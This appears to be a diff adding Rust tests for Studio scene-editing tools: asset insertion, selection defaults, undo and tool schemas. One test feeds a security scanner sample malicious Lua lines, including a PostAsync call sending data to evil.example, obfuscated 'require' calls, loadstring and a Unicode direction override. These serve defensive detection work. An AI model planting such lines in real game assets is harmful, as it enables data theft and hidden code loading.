@@ -1,0 +1,292 @@
+//! The tools in a place that is open in Studio: what they ask of it, and what they make of the answer.
+
+use scene_schemas::api::{Nodes, ScenePart};
+use scene_schemas::command::{AssetContents, AssetScript};
+use scene_schemas::entry::Seq;
+use scene_schemas::proposal::{Change, Class, Mode, Proposal, WarningKind};
+use scene_schemas::{Command, InstanceId};
+use serde_json::{Value as Json, json};
+use vector_place::Scene;
+
+use super::super::{Plan, plan};
+use super::{at, base, call};
+use crate::policy;
+use crate::proposal::{Blobs, perform};
+
+/// Workspace with a part Wall and a model House; nothing is known of their properties.
+pub(super) fn place() -> Scene {
+    let mut scene = Scene::open_place();
+    let text = |text: &str| text.to_owned();
+    let nodes = Nodes {
+        classes: ["Workspace", "Part", "Model"].map(text).to_vec(),
+        ids: ["studio:1", "studio:2", "studio:3"].map(|id| InstanceId(id.to_owned())).to_vec(),
+        parents: vec![0, 1, 1],
+        class: vec![0, 1, 2],
+        names: ["Workspace", "Wall", "House"].map(text).to_vec(),
+    };
+    for part in [ScenePart::Begin { total: 3 }, ScenePart::Nodes { nodes }, ScenePart::End {}] {
+        scene.hear(&part).unwrap();
+    }
+    scene
+}
+
+/// A model with a script and a part, and a part beside it.
+fn asset() -> AssetContents {
+    let texts = |texts: &[&str]| texts.iter().map(|text| (*text).to_owned()).collect();
+    AssetContents {
+        classes: texts(&["Model", "Script", "Part"]),
+        class: vec![0, 1, 2, 2],
+        parents: vec![0, 1, 1, 0],
+        names: texts(&["Tree", "Grow", "Trunk", "Leaf"]),
+        scripts: vec![AssetScript {
+            at: 2,
+            text: "local f = getfenv()\nrequire(123)\n".to_owned(),
+        }],
+    }
+}
+
+fn insert(scene: &mut Scene, args: Json) -> Result<(Proposal, Json), String> {
+    match call(scene, "insert_asset", args)? {
+        Plan::Propose(proposal, answer) => Ok((*proposal, answer)),
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn an_asset_is_asked_for_and_then_shown_with_its_scripts() {
+    let mut scene = place();
+    let args = json!({ "assetId": 5, "parentPath": "game.Workspace.House" });
+    assert!(insert(&mut scene, args.clone()).is_err());
+    assert_eq!(scene.take_missing().assets, [5]);
+    scene.know_asset(5, Ok(asset()));
+    let (proposal, answer) = insert(&mut scene, args).unwrap();
+    assert!(scene.take_missing().is_empty(), "an asset's properties are not asked for");
+    assert_eq!(answer["paths"], json!(["game.Workspace.House.Tree", "game.Workspace.House.Leaf"]));
+    assert_eq!((&answer["count"], &answer["scripts"]), (&json!(4), &json!(1)));
+    assert_eq!(proposal.class, Class::Additive);
+    let rows: Vec<_> =
+        proposal.preview.rows.iter().map(|row| (row.path.name(), row.change.clone())).collect();
+    let root = |count| Change::Inserted { asset: 5, count };
+    let below = || Change::Created { props: Vec::new() };
+    let expected = [("Tree", root(3)), ("Grow", below()), ("Trunk", below()), ("Leaf", root(1))];
+    assert_eq!(rows, expected);
+    let script = &proposal.preview.scripts[0];
+    assert_eq!(script.path.to_string(), "game.Workspace.House.Tree.Grow");
+    assert_eq!((script.added, script.removed, script.hunks.len()), (2, 0, 1));
+    let kinds: Vec<_> = proposal.warnings.iter().map(|warning| warning.kind).collect();
+    assert_eq!(kinds, [WarningKind::Scripts, WarningKind::Security, WarningKind::Security]);
+    assert!(crate::policy::needs_second_confirmation(&proposal));
+    // It is part of the scene on trial, and the next call stands on it.
+    let rename = json!({ "path": "game.Workspace.House.Tree.Trunk", "newName": "Stem" });
+    let next = plan(Seq(9), "rename_instance", &rename, &mut scene, &base(), &Blobs::new(), None);
+    let Ok(Plan::Propose(next, _)) = next else { panic!("{next:?}") };
+    assert_eq!(next.commands[0].target().id.0, "new:7.2");
+    assert!(scene.take_missing().is_empty());
+}
+
+#[test]
+fn what_an_asset_brings_has_properties_that_nobody_knows() {
+    let mut scene = place();
+    scene.know_asset(5, Ok(asset()));
+    insert(&mut scene, json!({ "assetId": 5 })).unwrap();
+    let path = "game.Workspace.Tree.Trunk";
+    let read = call(&mut scene, "get_properties", json!({ "path": path }));
+    assert!(read.unwrap_err().contains("not inserted yet"));
+    // Anchored is false by default, and may be true in the asset: to set it is a change.
+    let set = json!({ "path": path, "props": { "Anchored": false } });
+    let set = plan(Seq(9), "set_properties", &set, &mut scene, &base(), &Blobs::new(), None);
+    let Ok(Plan::Propose(set, _)) = set else { panic!("{set:?}") };
+    let Change::Set { before: None, .. } = set.preview.rows[0].change else { panic!("{set:?}") };
+    assert!(matches!(&set.commands[0], Command::Set { expect: None, .. }));
+    let mark = scene.mark();
+    scene.rollback(mark);
+}
+
+#[test]
+fn the_roots_of_an_asset_go_again_the_last_first() {
+    let mut scene = place();
+    let mut holds = asset();
+    holds.names[3] = "Tree".to_owned();
+    scene.know_asset(5, Ok(holds));
+    let mark = scene.mark();
+    let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
+    scene.rollback(mark);
+    scene.begin(Seq(7));
+    let done = perform(&mut scene, &proposal.commands[0], &Blobs::new()).unwrap();
+    let back = crate::proposal::inverse(&mut scene, done.backs).unwrap().commands;
+    let gone: Vec<_> = back.iter().map(Command::target).collect();
+    assert_eq!(gone[0].path.to_string(), "game.Workspace.Tree[2]");
+    assert_eq!(gone[1].path.to_string(), "game.Workspace.Tree");
+    assert_eq!((gone[0].id.0.as_str(), gone[1].id.0.as_str()), ("new:7.3", "new:7.0"));
+    for command in &back {
+        perform(&mut scene, command, &Blobs::new()).unwrap();
+    }
+    assert_eq!(scene.len(), 3);
+}
+
+#[test]
+fn an_asset_that_cannot_be_had_is_refused_in_studios_words() {
+    let mut scene = place();
+    scene.know_asset(6, Err("Studio could not load the asset 6: it is private.".to_owned()));
+    let refused = insert(&mut scene, json!({ "assetId": 6 })).unwrap_err();
+    assert_eq!(refused, "insert_asset: Studio could not load the asset 6: it is private.");
+    let mut torn = asset();
+    torn.parents[1] = 9;
+    scene.know_asset(7, Ok(torn));
+    assert!(insert(&mut scene, json!({ "assetId": 7 })).unwrap_err().contains("holds nothing"));
+    let mut long = asset();
+    long.scripts[0].text = "x".repeat(500_000);
+    scene.know_asset(8, Ok(long));
+    assert!(insert(&mut scene, json!({ "assetId": 8 })).unwrap_err().contains("by hand"));
+    assert!(insert(&mut scene, json!({ "assetId": 0 })).is_err());
+    assert_eq!(scene.len(), 3);
+}
+
+/// A call, planned again where Studio has told what is selected.
+fn call_with(scene: &mut Scene, selected: &[&str], tool: &str, args: Json) -> Result<Plan, String> {
+    scene.forget_facts();
+    let _ = call(scene, tool, args.clone());
+    assert!(scene.take_missing().selection, "the selection is asked for");
+    let ids: Vec<_> = selected.iter().map(|id| InstanceId((*id).to_owned())).collect();
+    scene.know_selection(&ids, ids.len() as u32);
+    call(scene, tool, args)
+}
+
+#[track_caller]
+fn proposed(plan: Result<Plan, String>) -> Proposal {
+    match plan {
+        Ok(Plan::Propose(proposal, _)) => *proposal,
+        other => panic!("{other:?}"),
+    }
+}
+
+#[test]
+fn a_call_without_a_path_means_the_selected_instance() {
+    let mut scene = place();
+    let rename = json!({ "newName": "Tower" });
+    let proposal = proposed(call_with(&mut scene, &["studio:2"], "rename_instance", rename));
+    assert_eq!(proposal.commands[0].target().id.0, "studio:2");
+    let meant = proposal.meant.unwrap();
+    assert_eq!(meant.sentence(), "Path left out: the selected instance game.Workspace.Wall");
+    let args = json!({ "className": "Folder", "props": { "Name": "In" } });
+    let proposal = proposed(call_with(&mut scene, &["studio:3"], "create_instance", args.clone()));
+    assert_eq!(proposal.preview.rows[0].path.to_string(), "game.Workspace.House.In");
+    let listed = call_with(&mut scene, &["studio:1"], "list_children", json!({}));
+    let Ok(Plan::Answer(listed)) = listed else { panic!("{listed:?}") };
+    assert_eq!(listed["path"], "game.Workspace");
+    // What is gone was not selected.
+    let refused = call_with(&mut scene, &["studio:99"], "delete_instance", json!({}));
+    assert!(refused.unwrap_err().contains("nothing is selected"));
+}
+
+#[test]
+fn without_one_selected_instance_only_what_is_made_has_a_place() {
+    for selected in [&[][..], &["studio:2", "studio:3"]] {
+        let mut scene = place();
+        let refused = call_with(&mut scene, selected, "rename_instance", json!({ "newName": "A" }));
+        let refused = refused.unwrap_err();
+        assert!(refused.contains("select exactly one instance, or give a path"), "{refused}");
+        assert_eq!(refused.contains("2 instances are selected"), selected.len() == 2, "{refused}");
+        let made =
+            call_with(&mut scene, selected, "create_instance", json!({ "className": "Part" }));
+        let meant = proposed(made).meant.unwrap();
+        assert_eq!(meant.sentence(), "Path left out: game.Workspace");
+    }
+}
+
+#[test]
+fn what_names_its_instances_asks_for_no_selection() {
+    let mut scene = place();
+    for args in [
+        json!({ "path": "game.Workspace.Wall" }),
+        json!({ "paths": ["game.Workspace.Wall"] }),
+        json!({ "selector": "#Wall" }),
+    ] {
+        let mark = scene.mark();
+        let proposal = proposed(call(&mut scene, "delete_instance", args));
+        assert_eq!(proposal.meant, None);
+        assert!(!scene.take_missing().selection);
+        scene.rollback(mark);
+    }
+}
+
+#[test]
+fn what_was_meant_once_is_meant_again() {
+    let mut scene = place();
+    let delete = |scene: &mut Scene| call(scene, "delete_instance", json!({}));
+    let meant = proposed(call_with(&mut scene, &["studio:2"], "delete_instance", json!({}))).meant;
+    let mut scene = place();
+    scene.mean(meant.clone());
+    scene.know_selection(&[InstanceId("studio:3".to_owned())], 1);
+    assert_eq!(proposed(delete(&mut scene)).commands[0].target().id.0, "studio:2");
+    let mut scene = place();
+    scene.hear(&ScenePart::Removed { id: InstanceId("studio:2".to_owned()) }).unwrap();
+    scene.mean(meant);
+    assert!(delete(&mut scene).unwrap_err().contains("game.Workspace.Wall, which was meant"));
+}
+
+#[test]
+fn the_calls_of_one_proposal_mean_the_same_instance() {
+    let mut scene = place();
+    let changes = json!({ "title": "both", "changes": [
+        { "tool": "rename_instance", "args": { "newName": "Tower" } },
+        { "tool": "clone_instance", "args": { "name": "Keep" } },
+    ] });
+    let proposal = proposed(call_with(&mut scene, &["studio:2"], "propose_changes", changes));
+    assert_eq!(proposal.meant.unwrap().target.path.to_string(), "game.Workspace.Wall");
+    assert_eq!(proposal.commands[1].target().path.to_string(), "game.Workspace.Tower");
+    at(&scene, "game.Workspace.Keep");
+}
+
+#[test]
+fn schemas_say_what_may_be_left_out() {
+    let printed = super::super::print();
+    let tool = |name: &str| {
+        let all = printed.as_array().unwrap();
+        all.iter().find(|tool| tool["name"] == name).unwrap()["inputSchema"].clone()
+    };
+    let rename = tool("rename_instance");
+    assert_eq!(rename["required"], json!(["newName"]));
+    let said = rename["properties"]["path"]["description"].as_str().unwrap();
+    assert!(said == "Default: the selection.", "{said}");
+    let create = tool("create_instance");
+    assert_eq!(create["required"], json!(["className"]));
+    let said = create["properties"]["parentPath"]["description"].as_str().unwrap();
+    assert!(said == "Default: the selection, else game.Workspace.", "{said}");
+}
+
+#[test]
+fn all_that_is_suspicious_in_an_asset_waits_for_two_yeses() {
+    let modes = [Mode::Confirm, Mode::Auto, Mode::Dangerous];
+    for (text, said) in [
+        ("require(123456)", "requires the asset 123456"),
+        ("loadstring(x)()", "uses loadstring"),
+        ("getfenv()", "uses getfenv"),
+        ("http:PostAsync(\"https://evil.example/\", x)", "sends data to evil.example"),
+        ("M:PromptPurchase(p, 4147951000)", "asks players to buy the item 4147951000"),
+        ("x = (\"eriuqer\"):reverse()", "writes \"require\" backwards"),
+        ("x = string.char(114, 101, 113, 117, 105, 114, 101)", "as a list of numbers"),
+        ("x = \"\u{202e}\"", "shows text in another order"),
+    ] {
+        let mut scene = place();
+        let mut holds = asset();
+        holds.scripts[0].text = text.to_owned();
+        scene.know_asset(5, Ok(holds));
+        let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
+        let warning = proposal.warnings.iter().find(|it| it.kind == WarningKind::Security);
+        let warning = warning.unwrap_or_else(|| panic!("{text}"));
+        assert!(warning.text.starts_with("game.Workspace.Tree.Grow: Line 1 "), "{warning:?}");
+        assert!(warning.text.contains(said), "{warning:?}");
+        assert!(modes.iter().all(|mode| !policy::lets_through(*mode, &proposal)), "{text}");
+    }
+    let mut scene = place();
+    let mut holds = asset();
+    holds.scripts[0].text = "print(1)".to_owned();
+    holds.names[2] = "Server Script Service".to_owned();
+    scene.know_asset(5, Ok(holds));
+    let (proposal, _) = insert(&mut scene, json!({ "assetId": 5 })).unwrap();
+    let said: Vec<_> = proposal.warnings.iter().map(|it| (it.kind, it.text.as_str())).collect();
+    let imitates =
+        "The name \"Server Script Service\" looks like ServerScriptService, and is another's.";
+    assert!(said.contains(&(WarningKind::Security, imitates)), "{said:?}");
+}
